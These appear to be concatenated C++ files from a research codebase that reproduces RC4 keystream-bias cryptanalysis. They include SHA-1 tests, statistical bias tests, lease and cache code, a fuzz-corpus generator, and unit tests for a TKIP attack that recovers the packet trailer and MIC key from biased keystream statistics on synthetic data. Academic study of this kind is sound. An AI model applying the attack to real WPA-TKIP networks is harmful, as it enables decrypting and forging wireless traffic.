                100.0 * static_cast<double>(fm_wins) / static_cast<double>(sims),
                100.0 * static_cast<double>(combined_wins) /
                    static_cast<double>(sims));
  }
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
