#include "src/crypto/sha1.h"

#include <string>

#include <gtest/gtest.h>

#include "src/common/bytes.h"

namespace rc4b {
namespace {

std::string DigestHex(std::string_view message) {
  const Bytes data = FromString(message);
  const auto digest = Sha1::Digest(data);
  return ToHex(digest);
}

// FIPS 180 example vectors.
TEST(Sha1Test, Abc) {
  EXPECT_EQ(DigestHex("abc"), "a9993e364706816aba3e25717850c26c9cd0d89d");
}

TEST(Sha1Test, Empty) {
  EXPECT_EQ(DigestHex(""), "da39a3ee5e6b4b0d3255bfef95601890afd80709");
}

TEST(Sha1Test, TwoBlockMessage) {
  EXPECT_EQ(DigestHex("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "84983e441c3bd26ebaae4aa1f95129e5e54670f1");
}

TEST(Sha1Test, MillionAs) {
  Sha1 h;
  const Bytes chunk(1000, 'a');
  for (int i = 0; i < 1000; ++i) {
    h.Update(chunk);
  }
  EXPECT_EQ(ToHex(h.Finish()), "34aa973cd4c4daa4f61eeb2bdbad27316534016f");
}

TEST(Sha1Test, StreamingMatchesOneShot) {
  const Bytes data = FromString("the quick brown fox jumps over the lazy dog!!");
  Sha1 h;
  // Split at awkward boundaries relative to the 64-byte block size.
  h.Update(std::span<const uint8_t>(data.data(), 1));
  h.Update(std::span<const uint8_t>(data.data() + 1, 30));
  h.Update(std::span<const uint8_t>(data.data() + 31, data.size() - 31));
  EXPECT_EQ(ToHex(h.Finish()), ToHex(Sha1::Digest(data)));
}

TEST(Sha1Test, FinishResetsState) {
  Sha1 h;
  h.Update(FromString("abc"));
  const auto first = h.Finish();
  h.Update(FromString("abc"));
  const auto second = h.Finish();
  EXPECT_EQ(ToHex(first), ToHex(second));
}

// Exercise every message length mod 64 around the padding boundary.
TEST(Sha1Test, PaddingBoundaryLengths) {
  for (size_t len = 54; len <= 66; ++len) {
    const Bytes data(len, 0x5a);
    Sha1 h;
    h.Update(data);
    const auto streamed = h.Finish();
    EXPECT_EQ(ToHex(streamed), ToHex(Sha1::Digest(data))) << "len=" << len;
  }
}

}  // namespace
}  // namespace rc4b
