// Shard lease files: mutual exclusion with failure detection for campaign
// workers. A worker acquires `<shard>.grid.lease` before running the shard
// and renews the heartbeat timestamp at every checkpoint; a lease whose
// heartbeat is older than the TTL marks a stalled or dead worker, and the
// shard becomes stealable.
//
// The protocol is crash-safe, not race-free: a stale lease is stolen with an
// atomic whole-file replace, so if two stealers race, the last rename wins
// and the loser discovers it at its next RenewLease (owner mismatch ->
// transient "lease lost", worker exits retryable). At most one worker keeps
// renewing; the other's work is discarded by its own exit, never merged.
// See docs/orchestrate.md for the full safety argument.
//
// Format (text, one token per field, parsed strictly — fuzzed by
// tests/fuzz/fuzz_lease.cc):
//
//   rc4b-lease 1
//   owner 12345.a2
//   acquired_ms 1700000000000
//   heartbeat_ms 1700000012000
//   attempt 2
#ifndef SRC_ORCHESTRATE_LEASE_H_
#define SRC_ORCHESTRATE_LEASE_H_

#include <cstdint>
#include <string>
#include <string_view>

#include "src/common/io.h"

namespace rc4b::orchestrate {

struct Lease {
  std::string owner;          // "<pid>.a<attempt>" — unique per worker launch
  uint64_t acquired_ms = 0;   // when this owner took the lease
  uint64_t heartbeat_ms = 0;  // last renewal; staleness is measured from here
  uint32_t attempt = 0;       // campaign attempt number, for post-mortems
};

// `<shard path>.lease`, next to the shard's output grid.
std::string LeasePath(const std::string& shard_path);

// Canonical serialization; ParseLease(FormatLease(x)) reproduces x.
std::string FormatLease(const Lease& lease);

// Strict parse: exact header, all four fields once, no trailing garbage.
// `context` names the source in diagnostics.
IoStatus ParseLease(std::string_view text, const std::string& context, Lease* out);

// Reads and parses `path`. Missing file is a transient error (the lease may
// simply not exist yet); a corrupt file is a data error.
IoStatus ReadLeaseFile(const std::string& path, Lease* out);

// Takes the lease for `owner`: creates it exclusively if absent, re-enters
// it if already owned by `owner`, steals it if the current heartbeat is
// older than `ttl_ms`. A live foreign lease is a transient failure (caller
// backs off and retries). On success *out is the written lease.
IoStatus AcquireLease(const std::string& path, const std::string& owner,
                      uint64_t now_ms, uint64_t ttl_ms, uint32_t attempt, Lease* out);

// Advances the heartbeat. Fails transient ("lease lost") if the file is
// gone, unreadable, or owned by someone else — the caller must stop working
// on the shard; a stealer owns it now.
IoStatus RenewLease(const std::string& path, const std::string& owner,
                    uint64_t now_ms);

// Removes the lease if still owned by `owner`; a lease lost in the meantime
// is left alone (its new owner is responsible for it).
IoStatus ReleaseLease(const std::string& path, const std::string& owner);

}  // namespace rc4b::orchestrate

#endif  // SRC_ORCHESTRATE_LEASE_H_
