#include "src/tkip/attack.h"

#include <gtest/gtest.h>

#include "src/core/likelihood.h"

#include "src/common/rng.h"
#include "src/net/packet.h"
#include "src/tkip/frame.h"

namespace rc4b {
namespace {

TkipPeer TestPeer(uint64_t seed) {
  Xoshiro256 rng(seed);
  TkipPeer peer;
  rng.Fill(peer.tk);
  peer.mic_key = MichaelKey{static_cast<uint32_t>(rng()), static_cast<uint32_t>(rng())};
  rng.Fill(peer.ta);
  rng.Fill(peer.da);
  rng.Fill(peer.sa);
  return peer;
}

Bytes InjectedPacket() {
  Ipv4Header ip;
  ip.source = 0x0a000001;
  ip.destination = 0x0a000002;
  TcpHeader tcp;
  tcp.source_port = 80;
  tcp.destination_port = 51000;
  return BuildTcpPacket(LlcSnapHeader{}, ip, tcp, FromString("7bytes!"));
}

// Likelihood tables where the true byte gets `boost` added on top of noise.
SingleByteTables SyntheticTables(std::span<const uint8_t> truth, double boost,
                                 uint64_t seed) {
  Xoshiro256 rng(seed);
  SingleByteTables tables(truth.size(), std::vector<double>(256));
  for (size_t r = 0; r < truth.size(); ++r) {
    for (int v = 0; v < 256; ++v) {
      tables[r][v] = -rng.UnitDouble();
    }
    tables[r][truth[r]] += boost;
  }
  return tables;
}

TEST(TkipAttackTest, TrailerConsistencyPredicate) {
  const TkipPeer peer = TestPeer(1);
  const Bytes msdu = InjectedPacket();
  const Bytes trailer = TkipTrailer(peer, msdu);
  EXPECT_TRUE(TkipTrailerConsistent(msdu, trailer));
  Bytes bad = trailer;
  bad[0] ^= 1;
  EXPECT_FALSE(TkipTrailerConsistent(msdu, bad));
  bad = trailer;
  bad[11] ^= 0x80;
  EXPECT_FALSE(TkipTrailerConsistent(msdu, bad));
}

TEST(TkipAttackTest, RecoversTrailerAndMicKeyWhenTruthIsTop) {
  const TkipPeer peer = TestPeer(2);
  const Bytes msdu = InjectedPacket();
  const Bytes trailer = TkipTrailer(peer, msdu);
  const auto tables = SyntheticTables(trailer, 2.0, 2);

  const auto result = RecoverTkipTrailer(msdu, tables, 1024, trailer, peer);
  ASSERT_TRUE(result.found);
  EXPECT_TRUE(result.correct);
  EXPECT_EQ(result.candidates_tried, 1u);
  EXPECT_EQ(result.trailer, trailer);
  EXPECT_EQ(result.mic_key, peer.mic_key);
}

TEST(TkipAttackTest, CrcPruningSkipsBadCandidates) {
  // Deterministic setup: the truth is the 2nd-best candidate; the best
  // candidate differs in one byte, so its CRC cannot match (false positives
  // are ~2^-32) and the traversal must accept the truth at attempt 2.
  const TkipPeer peer = TestPeer(3);
  const Bytes msdu = InjectedPacket();
  const Bytes trailer = TkipTrailer(peer, msdu);

  SingleByteTables tables(trailer.size(), std::vector<double>(256));
  for (size_t r = 0; r < trailer.size(); ++r) {
    for (int v = 0; v < 256; ++v) {
      // Score decays with byte distance from the true value.
      tables[r][v] = -0.01 * ((v - trailer[r]) & 0xff);
    }
  }
  // One impostor value at position 0 slightly outscoring the truth.
  tables[0][(trailer[0] + 1) & 0xff] = 0.005;

  const auto result = RecoverTkipTrailer(msdu, tables, 1 << 10, trailer, peer);
  ASSERT_TRUE(result.found);
  EXPECT_TRUE(result.correct);
  EXPECT_EQ(result.candidates_tried, 2u);
  EXPECT_EQ(result.mic_key, peer.mic_key);
}

TEST(TkipAttackTest, GivesUpWithinBudget) {
  const TkipPeer peer = TestPeer(4);
  const Bytes msdu = InjectedPacket();
  const Bytes trailer = TkipTrailer(peer, msdu);
  // No boost at all: truth is essentially at a random rank in 2^96.
  const auto tables = SyntheticTables(trailer, 0.0, 4);
  const auto result = RecoverTkipTrailer(msdu, tables, 512, trailer, peer);
  EXPECT_FALSE(result.found);
  EXPECT_FALSE(result.correct);
  // Regression: a failed traversal must report how many candidates it
  // actually tried, not 0.
  EXPECT_EQ(result.candidates_tried, 512u);
}

TEST(TkipAttackTest, RejectsWrongTableCount) {
  const TkipPeer peer = TestPeer(6);
  const Bytes msdu = InjectedPacket();
  const Bytes trailer = TkipTrailer(peer, msdu);
  const SingleByteTables short_tables(3, std::vector<double>(256, 0.0));
  const auto result = RecoverTkipTrailer(msdu, short_tables, 16, trailer, peer);
  EXPECT_FALSE(result.found);
  EXPECT_EQ(result.candidates_tried, 0u);
}

TEST(TkipAttackTest, LikelihoodsRejectMismatchedPositionRanges) {
  // Regression: a stats/model position mismatch used to be assert-only and
  // read out of bounds in Release builds; it must now return empty tables.
  TkipCaptureStats stats(10, 21);
  TkipTscModel model(11, 22);
  EXPECT_TRUE(TkipTrailerLikelihoods(stats, model).empty());
}

TEST(TkipAttackTest, CaptureStatsRejectShortFrames) {
  TkipCaptureStats stats(10, 21);
  TkipFrame frame;
  frame.tsc = 0x1234;
  frame.ciphertext.assign(20, 0);  // one byte short of last_position
  EXPECT_FALSE(stats.AddFrame(frame));
  EXPECT_EQ(stats.frames(), 0u);
  frame.ciphertext.assign(21, 0);
  EXPECT_TRUE(stats.AddFrame(frame));
  EXPECT_EQ(stats.frames(), 1u);
}

TEST(TkipAttackTest, LikelihoodsRecoverTruthUnderOracleModel) {
  // Deterministic oracle setup: a synthetic per-TSC1 keystream model with a
  // strong TSC1-dependent bias, and captured ciphertexts drawn from exactly
  // that model. The multiplied per-TSC1 likelihoods must recover the true
  // trailer bytes. (Statistical strength at realistic model scales is the
  // Fig. 8 bench's job.)
  const TkipPeer peer = TestPeer(5);
  const Bytes msdu = InjectedPacket();
  const Bytes trailer = TkipTrailer(peer, msdu);
  const size_t first = msdu.size() + 1;                  // 1-based MIC start
  const size_t last = msdu.size() + kTkipTrailerSize;    // ICV end

  TkipTscModel model(first, last);
  const double boost = 0.05;
  for (int tsc1 = 0; tsc1 < 256; ++tsc1) {
    for (size_t pos = first; pos <= last; ++pos) {
      std::vector<double> p(256, (1.0 - (1.0 / 256 + boost)) / 255.0);
      // Keystream leans toward a TSC1- and position-dependent value.
      p[(tsc1 * 31 + static_cast<int>(pos)) & 0xff] = 1.0 / 256 + boost;
      model.SetRow(static_cast<uint8_t>(tsc1), pos, p);
    }
  }

  TkipCaptureStats stats(first, last);
  Xoshiro256 rng(55);
  for (int frame_index = 0; frame_index < (1 << 14); ++frame_index) {
    TkipFrame frame;
    frame.tsc = static_cast<uint64_t>(frame_index);
    frame.ciphertext.assign(last, 0);
    const int tsc1 = (frame_index >> 8) & 0xff;
    for (size_t pos = first; pos <= last; ++pos) {
      const uint8_t biased = static_cast<uint8_t>((tsc1 * 31 + pos) & 0xff);
      const uint8_t z = rng.UnitDouble() < boost + 1.0 / 256 ? biased : rng.Byte();
      const uint8_t plain =
          pos <= msdu.size() ? msdu[pos - 1] : trailer[pos - msdu.size() - 1];
      frame.ciphertext[pos - 1] = static_cast<uint8_t>(plain ^ z);
    }
    stats.AddFrame(frame);
  }

  const auto tables = TkipTrailerLikelihoods(stats, model);
  ASSERT_EQ(tables.size(), kTkipTrailerSize);
  for (size_t r = 0; r < kTkipTrailerSize; ++r) {
    EXPECT_EQ(ArgMax(tables[r]), trailer[r]) << "position " << r;
  }
}

}  // namespace
}  // namespace rc4b
