// Statistical hypothesis tests used to detect RC4 keystream biases (Sect. 3.1):
//  * chi-squared goodness-of-fit against a uniform (or given) distribution,
//  * the Fuchs–Kenett M-test for outlying multinomial cells (more powerful
//    than chi-squared when only a few value pairs are biased),
//  * per-cell proportion z-tests to pinpoint which values are biased,
//  * Holm's step-down procedure to control the family-wise error rate.
#ifndef SRC_STATS_TESTS_H_
#define SRC_STATS_TESTS_H_

#include <cstdint>
#include <span>
#include <vector>

namespace rc4b {

struct TestResult {
  double statistic = 0.0;
  double p_value = 1.0;
};

// Chi-squared goodness-of-fit of observed counts against expected
// probabilities. `expected` empty means uniform over all cells.
TestResult ChiSquaredGoodnessOfFit(std::span<const uint64_t> counts,
                                   std::span<const double> expected = {});

// Chi-squared test of independence over an R x C contingency table stored
// row-major. Detects *dependence* between two keystream bytes without being
// confounded by their single-byte biases.
TestResult ChiSquaredIndependence(std::span<const uint64_t> table, size_t rows,
                                  size_t cols);

// Fuchs–Kenett M-test: the maximum absolute standardized cell residual
//   M = max_i |X_i - n p_i| / sqrt(n p_i (1 - p_i)),
// with a Bonferroni-corrected two-sided p-value min(1, k * 2 * Phi(-M)).
// Asymptotically more powerful than chi-squared when few cells deviate,
// which is exactly the Fluhrer–McGrew situation (≤ 8 of 65536 pairs biased).
struct MTestResult {
  double statistic = 0.0;   // M
  double p_value = 1.0;     // Bonferroni-corrected
  size_t worst_cell = 0;    // argmax cell index
};
MTestResult FuchsKenettMTest(std::span<const uint64_t> counts,
                             std::span<const double> expected = {});

// Two-sided one-sample proportion z-test: observed `successes` out of
// `trials` against null proportion `p0`.
TestResult ProportionTest(uint64_t successes, uint64_t trials, double p0);

// Holm step-down adjustment. Returns adjusted p-values (same order as input);
// reject hypothesis i at FWER alpha iff adjusted[i] <= alpha.
std::vector<double> HolmAdjust(std::span<const double> p_values);

// Convenience: indices rejected at `alpha` after Holm adjustment.
std::vector<size_t> HolmReject(std::span<const double> p_values, double alpha);

}  // namespace rc4b

#endif  // SRC_STATS_TESTS_H_
