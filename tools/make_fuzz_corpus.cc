// Generates the seed corpora for tests/fuzz/ from the real writers, so every
// fuzz target starts from inputs that exercise the full accept path plus
// near-miss variants (truncations, bit flips, header-only prefixes) and the
// crafted overflow inputs pinned by tests/store/grid_file_corrupt_test.cc.
//
//   make_fuzz_corpus <output-dir>
//
// writes <output-dir>/<fuzz-target>/<seed-name>. The checked-in corpora under
// tests/fuzz/corpus/ were produced by this tool; rerun it after a format
// change and commit the diff.
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "src/common/io.h"
#include "src/crypto/crc32.h"
#include "src/orchestrate/lease.h"
#include "src/rc4/autotune.h"
#include "src/store/grid_file.h"
#include "src/store/manifest.h"
#include "src/store/shard_runner.h"

namespace {

using rc4b::IoStatus;
using rc4b::store::GridKind;
using rc4b::store::GridMeta;
using rc4b::store::Manifest;

bool ReadAll(const std::string& path, std::string* out) {
  std::FILE* file = std::fopen(path.c_str(), "rb");
  if (file == nullptr) {
    return false;
  }
  out->clear();
  char buffer[4096];
  size_t got = 0;
  while ((got = std::fread(buffer, 1, sizeof(buffer), file)) > 0) {
    out->append(buffer, got);
  }
  std::fclose(file);
  return true;
}

bool WriteRaw(const std::string& path, const std::string& bytes) {
  std::FILE* file = std::fopen(path.c_str(), "wb");
  if (file == nullptr) {
    std::fprintf(stderr, "cannot write %s\n", path.c_str());
    return false;
  }
  const bool ok =
      bytes.empty() || std::fwrite(bytes.data(), 1, bytes.size(), file) == bytes.size();
  std::fclose(file);
  return ok;
}

void PutU64(std::string* out, uint64_t v) {
  for (int i = 0; i < 8; ++i) {
    out->push_back(static_cast<char>((v >> (8 * i)) & 0xff));
  }
}

// The crafted u64-overflow images from tests/store/grid_file_corrupt_test.cc:
// regression seeds so the fuzzers always re-cover the fixed crashes.
std::string HugeMetaBytesImage() {
  std::string file;
  PutU64(&file, rc4b::store::kGridFileMagic);
  PutU64(&file, rc4b::store::kGridFormatVersion);
  PutU64(&file, UINT64_MAX - 15);  // meta_bytes; wraps the naive sum check
  PutU64(&file, 0);                // meta_crc32
  PutU64(&file, 4096);             // cells_offset
  PutU64(&file, 0);                // cells_bytes
  PutU64(&file, 0);                // cells_crc32
  file.resize(4096, '\0');
  return file;
}

std::string HugePairCountImage() {
  std::string meta;
  PutU64(&meta, static_cast<uint64_t>(GridKind::kPair));
  PutU64(&meta, 1);               // seed
  PutU64(&meta, 0);               // key_begin
  PutU64(&meta, 1);               // key_end
  PutU64(&meta, 1);               // rows
  PutU64(&meta, 0);               // drop
  PutU64(&meta, 0);               // interleave
  PutU64(&meta, 0);               // bytes_per_key
  PutU64(&meta, 1);               // samples
  PutU64(&meta, uint64_t{1} << 61);  // pair_count; overflows size math

  std::string file;
  PutU64(&file, rc4b::store::kGridFileMagic);
  PutU64(&file, rc4b::store::kGridFormatVersion);
  PutU64(&file, meta.size());
  PutU64(&file, rc4b::Crc32(
      std::span<const uint8_t>(reinterpret_cast<const uint8_t*>(meta.data()),
                               meta.size())));
  PutU64(&file, 56 + meta.size());  // cells_offset (not 4096-aligned: also bad)
  PutU64(&file, 0);                 // cells_bytes
  PutU64(&file, 0);                 // cells_crc32
  file += meta;
  return file;
}

bool EmitGridFileCorpus(const std::string& dir, const std::string& scratch) {
  GridMeta meta;
  meta.kind = GridKind::kSingleByte;
  meta.seed = 3;
  meta.key_begin = 0;
  meta.key_end = 32;
  meta.rows = 2;
  const rc4b::store::StoredGrid grid =
      rc4b::store::GenerateStoredGrid(meta, 1, 1);
  const std::string valid_path = scratch + "/valid.grid";
  if (!rc4b::store::WriteGridFile(valid_path, grid.meta, grid.cells).ok()) {
    return false;
  }
  std::string valid;
  if (!ReadAll(valid_path, &valid)) {
    return false;
  }

  std::string truncated = valid.substr(0, valid.size() - 7);
  std::string flipped = valid;
  flipped[valid.size() / 2] ^= 0x20;
  std::string header_only = valid.substr(0, 56);

  return WriteRaw(dir + "/valid", valid) &&
         WriteRaw(dir + "/truncated", truncated) &&
         WriteRaw(dir + "/bitflip", flipped) &&
         WriteRaw(dir + "/header-only", header_only) &&
         WriteRaw(dir + "/huge-meta-bytes", HugeMetaBytesImage()) &&
         WriteRaw(dir + "/huge-pair-count", HugePairCountImage()) &&
         WriteRaw(dir + "/empty", "");
}

bool EmitManifestCorpus(const std::string& dir, const std::string& scratch) {
  GridMeta meta;
  meta.kind = GridKind::kConsecutive;
  meta.seed = 9;
  meta.key_begin = 0;
  meta.key_end = 1 << 12;
  meta.rows = 4;
  const Manifest manifest =
      rc4b::store::PlanShards(meta, 3, "corpus");
  const std::string valid_path = scratch + "/valid.manifest";
  if (!rc4b::store::WriteManifest(valid_path, manifest).ok()) {
    return false;
  }
  std::string valid;
  if (!ReadAll(valid_path, &valid)) {
    return false;
  }

  std::string bad_kind = valid;
  const size_t kind_at = bad_kind.find("consecutive");
  bad_kind.replace(kind_at, std::strlen("consecutive"), "conseq");
  const std::string no_shards = valid.substr(0, valid.find("shard "));

  return WriteRaw(dir + "/valid", valid) &&
         WriteRaw(dir + "/bad-kind", bad_kind) &&
         WriteRaw(dir + "/no-shards", no_shards) &&
         WriteRaw(dir + "/truncated", valid.substr(0, valid.size() / 2)) &&
         WriteRaw(dir + "/empty", "");
}

bool EmitCheckpointCorpus(const std::string& dir, const std::string& scratch) {
  // Exactly the dataset fuzz_checkpoint_resume.cc runs (seed 5, 64 keys,
  // 1 row), checkpointed by the real runner after 16 keys.
  GridMeta meta;
  meta.kind = GridKind::kSingleByte;
  meta.seed = 5;
  meta.key_begin = 0;
  meta.key_end = 64;
  meta.rows = 1;
  // Shard paths are manifest-relative, so a bare prefix lands the shard next
  // to the manifest inside the scratch directory.
  const Manifest manifest = rc4b::store::PlanShards(meta, 1, "ckpt");
  const std::string manifest_path = scratch + "/ckpt.manifest";
  if (!rc4b::store::WriteManifest(manifest_path, manifest).ok()) {
    return false;
  }
  rc4b::store::ShardRunOptions options;
  options.workers = 1;
  options.checkpoint_keys = 16;
  options.stop_after_keys = 16;
  rc4b::store::ShardRunResult result;
  if (IoStatus status = rc4b::store::RunShard(manifest, manifest_path, 0,
                                              options, &result);
      !status.ok() || result.finished) {
    std::fprintf(stderr, "checkpoint seed run went wrong: %s\n",
                 status.message().c_str());
    return false;
  }
  const std::string ckpt_path = rc4b::store::CheckpointPath(
      rc4b::store::ResolveManifestPath(manifest_path, manifest.shards[0].path));
  std::string valid;
  if (!ReadAll(ckpt_path, &valid)) {
    return false;
  }

  // A checkpoint from a *different* dataset (wrong seed) — valid grid file,
  // must be rejected by provenance, not byte format.
  GridMeta foreign = meta;
  foreign.seed = 6;
  const rc4b::store::StoredGrid foreign_grid =
      rc4b::store::GenerateStoredGrid(foreign, 1, 1);
  const std::string foreign_path = scratch + "/foreign.ckpt";
  if (!rc4b::store::WriteGridFile(foreign_path, foreign_grid.meta,
                                  foreign_grid.cells).ok()) {
    return false;
  }
  std::string foreign_bytes;
  if (!ReadAll(foreign_path, &foreign_bytes)) {
    return false;
  }

  std::string flipped = valid;
  flipped[valid.size() - 3] ^= 0x01;

  return WriteRaw(dir + "/valid-partial", valid) &&
         WriteRaw(dir + "/foreign-dataset", foreign_bytes) &&
         WriteRaw(dir + "/bitflip", flipped) &&
         WriteRaw(dir + "/truncated", valid.substr(0, 100)) &&
         WriteRaw(dir + "/empty", "");
}

bool EmitAutotuneCorpus(const std::string& dir, const std::string& scratch) {
  rc4b::AutotuneChoice choice;
  choice.kernel = "scalar";
  choice.width = 1;
  choice.batch_keys = 256;
  choice.ks_per_s = 123456.0;
  choice.host = "corpus-host";
  choice.cpu_features = "baseline";
  const std::string valid_path = scratch + "/valid.autotune";
  if (!rc4b::SaveAutotuneChoice(valid_path, choice).ok()) {
    return false;
  }
  std::string valid;
  if (!ReadAll(valid_path, &valid)) {
    return false;
  }

  std::string no_width = valid;
  const size_t width_at = no_width.find("width");
  no_width.erase(width_at, no_width.find('\n', width_at) + 1 - width_at);

  return WriteRaw(dir + "/valid", valid) &&
         WriteRaw(dir + "/missing-width", no_width) &&
         WriteRaw(dir + "/wrong-header", "rc4b-autotune 999\n" + valid) &&
         WriteRaw(dir + "/truncated", valid.substr(0, valid.size() / 3)) &&
         WriteRaw(dir + "/empty", "");
}

bool EmitLeaseCorpus(const std::string& dir) {
  rc4b::orchestrate::Lease lease;
  lease.owner = "12345.a2";
  lease.acquired_ms = 1700000000000;
  lease.heartbeat_ms = 1700000012000;
  lease.attempt = 2;
  const std::string valid = rc4b::orchestrate::FormatLease(lease);

  std::string bad_owner = valid;
  const size_t owner_at = bad_owner.find("12345.a2");
  bad_owner.replace(owner_at, std::strlen("12345.a2"), "12 45");
  std::string huge_number = valid;
  const size_t beat_at = huge_number.find("1700000012000");
  huge_number.replace(beat_at, std::strlen("1700000012000"),
                      "99999999999999999999999999");

  return WriteRaw(dir + "/valid", valid) &&
         WriteRaw(dir + "/wrong-version", "rc4b-lease 2\n" + valid.substr(13)) &&
         WriteRaw(dir + "/owner-whitespace", bad_owner) &&
         WriteRaw(dir + "/overflow-number", huge_number) &&
         WriteRaw(dir + "/trailing-garbage", valid + "extra\n") &&
         WriteRaw(dir + "/truncated", valid.substr(0, valid.size() / 2)) &&
         WriteRaw(dir + "/empty", "");
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::fprintf(stderr, "usage: %s <output-dir>\n", argv[0]);
    return 2;
  }
  const std::string out = argv[1];
  const std::string scratch = out + "/.scratch";
  for (const char* target :
       {"fuzz_grid_file", "fuzz_manifest", "fuzz_checkpoint_resume",
        "fuzz_autotune_cache", "fuzz_lease"}) {
    if (!rc4b::MakeDirs(out + "/" + target).ok()) {
      std::fprintf(stderr, "cannot create %s/%s\n", out.c_str(), target);
      return 1;
    }
  }
  if (!rc4b::MakeDirs(scratch).ok()) {
    return 1;
  }
  const bool ok =
      EmitGridFileCorpus(out + "/fuzz_grid_file", scratch) &&
      EmitManifestCorpus(out + "/fuzz_manifest", scratch) &&
      EmitCheckpointCorpus(out + "/fuzz_checkpoint_resume", scratch) &&
      EmitAutotuneCorpus(out + "/fuzz_autotune_cache", scratch) &&
      EmitLeaseCorpus(out + "/fuzz_lease");
  if (!ok) {
    std::fprintf(stderr, "corpus generation failed\n");
    return 1;
  }
  std::printf("corpora written under %s\n", out.c_str());
  return 0;
}
