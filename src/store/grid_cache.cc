#include "src/store/grid_cache.h"

#include <cstdio>

#include <sys/stat.h>

#include "src/crypto/crc32.h"
#include "src/store/shard_runner.h"

namespace rc4b::store {

namespace {

bool PathExists(const std::string& path) {
  struct stat st;
  return ::stat(path.c_str(), &st) == 0;
}

GridMeta BaseMeta(GridKind kind, uint64_t keys, uint64_t first_key,
                  uint64_t seed) {
  GridMeta meta;
  meta.kind = kind;
  meta.seed = seed;
  meta.key_begin = first_key;
  meta.key_end = first_key + keys;
  return meta;
}

}  // namespace

GridMeta MetaForSingleByte(size_t positions, const DatasetOptions& options) {
  GridMeta meta = BaseMeta(GridKind::kSingleByte, options.keys,
                           options.first_key, options.seed);
  meta.rows = positions;
  return meta;
}

GridMeta MetaForConsecutive(size_t positions, const DatasetOptions& options) {
  GridMeta meta = BaseMeta(GridKind::kConsecutive, options.keys,
                           options.first_key, options.seed);
  meta.rows = positions;
  return meta;
}

GridMeta MetaForPair(const std::vector<std::pair<uint32_t, uint32_t>>& pairs,
                     const DatasetOptions& options) {
  GridMeta meta =
      BaseMeta(GridKind::kPair, options.keys, options.first_key, options.seed);
  meta.rows = pairs.size();
  meta.pairs = pairs;
  return meta;
}

GridMeta MetaForLongTermDigraph(const LongTermOptions& options) {
  GridMeta meta = BaseMeta(GridKind::kLongTermDigraph, options.keys,
                           options.first_key, options.seed);
  meta.rows = 256;
  meta.drop = options.drop;
  meta.bytes_per_key = options.bytes_per_key;
  return meta;
}

std::string GridCache::PathFor(const GridMeta& want) const {
  std::string name = std::string(GridKindName(want.kind)) + "-r" +
                     std::to_string(want.rows) + "-s" +
                     std::to_string(want.seed) + "-k" +
                     std::to_string(want.key_begin) + "-" +
                     std::to_string(want.key_end) + "-d" +
                     std::to_string(want.drop) + "-b" +
                     std::to_string(want.bytes_per_key);
  if (!want.pairs.empty()) {
    // The pair list is too long for a file name; fingerprint it. TryLoad
    // still compares the full list from the stored metadata.
    std::vector<uint8_t> bytes;
    bytes.reserve(want.pairs.size() * 8);
    for (const auto& [a, b] : want.pairs) {
      for (const uint32_t v : {a, b}) {
        bytes.push_back(static_cast<uint8_t>(v));
        bytes.push_back(static_cast<uint8_t>(v >> 8));
        bytes.push_back(static_cast<uint8_t>(v >> 16));
        bytes.push_back(static_cast<uint8_t>(v >> 24));
      }
    }
    name += "-p" + std::to_string(Crc32(bytes));
  }
  return dir_ + "/" + name + ".grid";
}

IoStatus GridCache::TryLoad(const GridMeta& want, StoredGrid* out) const {
  const std::string path = PathFor(want);
  if (IoStatus status = ReadGridFile(path, out); !status.ok()) {
    return status;
  }
  if (IoStatus status = CheckSameDataset(want, out->meta, path); !status.ok()) {
    return status;
  }
  if (out->meta.key_begin != want.key_begin ||
      out->meta.key_end != want.key_end) {
    return IoStatus::Fail(path + ": cached grid covers keys [" +
                          std::to_string(out->meta.key_begin) + ", " +
                          std::to_string(out->meta.key_end) +
                          "), request wants [" +
                          std::to_string(want.key_begin) + ", " +
                          std::to_string(want.key_end) + ")");
  }
  return IoStatus::Ok();
}

StoredGrid GridCache::LoadOrGenerate(const GridMeta& want, unsigned workers,
                                     size_t interleave) {
  const std::string path = PathFor(want);
  StoredGrid stored;
  IoStatus status = TryLoad(want, &stored);
  if (status.ok()) {
    return stored;
  }
  if (PathExists(path)) {
    // Present but unusable (corrupt or different provenance): report, then
    // fall through to regeneration — never use a mismatched grid silently.
    std::fprintf(stderr, "grid cache: regenerating: %s\n",
                 status.message().c_str());
  }
  stored = GenerateStoredGrid(want, workers, interleave);
  if (IoStatus made = MakeDirs(dir_); !made.ok()) {
    std::fprintf(stderr, "grid cache: %s (grid not stored)\n",
                 made.message().c_str());
    return stored;
  }
  if (IoStatus wrote = WriteGridFile(path, stored.meta, stored.cells);
      !wrote.ok()) {
    std::fprintf(stderr, "grid cache: %s (grid not stored)\n",
                 wrote.message().c_str());
  }
  return stored;
}

SingleByteGrid GridCache::LoadOrGenerateSingleByte(size_t positions,
                                                   DatasetOptions options) {
  const GridMeta want = MetaForSingleByte(positions, options);
  options.cache_dir.clear();  // the generate path must not re-enter the cache
  return ToSingleByteGrid(
      LoadOrGenerate(want, options.workers, options.interleave));
}

DigraphGrid GridCache::LoadOrGenerateConsecutive(size_t positions,
                                                 DatasetOptions options) {
  const GridMeta want = MetaForConsecutive(positions, options);
  options.cache_dir.clear();
  return ToDigraphGrid(
      LoadOrGenerate(want, options.workers, options.interleave));
}

DigraphGrid GridCache::LoadOrGeneratePair(
    const std::vector<std::pair<uint32_t, uint32_t>>& pairs,
    DatasetOptions options) {
  const GridMeta want = MetaForPair(pairs, options);
  options.cache_dir.clear();
  return ToDigraphGrid(
      LoadOrGenerate(want, options.workers, options.interleave));
}

DigraphGrid GridCache::LoadOrGenerateLongTermDigraph(LongTermOptions options) {
  const GridMeta want = MetaForLongTermDigraph(options);
  options.cache_dir.clear();
  return ToDigraphGrid(
      LoadOrGenerate(want, options.workers, options.interleave));
}

}  // namespace rc4b::store
