// Fig. 6 + Sect. 3.3.3 — single-byte biases beyond position 256: the
// distribution snapshots at positions 272/304/336/368 and the key-length
// dependent bias Z_{256 + 16k} = k * 32. Also reruns the "all initial bytes
// are biased" uniformity scan at the achievable scale.
#include <algorithm>
#include <cstdio>
#include <vector>

#include "bench/harness.h"
#include "src/biases/bias_scan.h"
#include "src/biases/dataset.h"
#include "src/common/flags.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
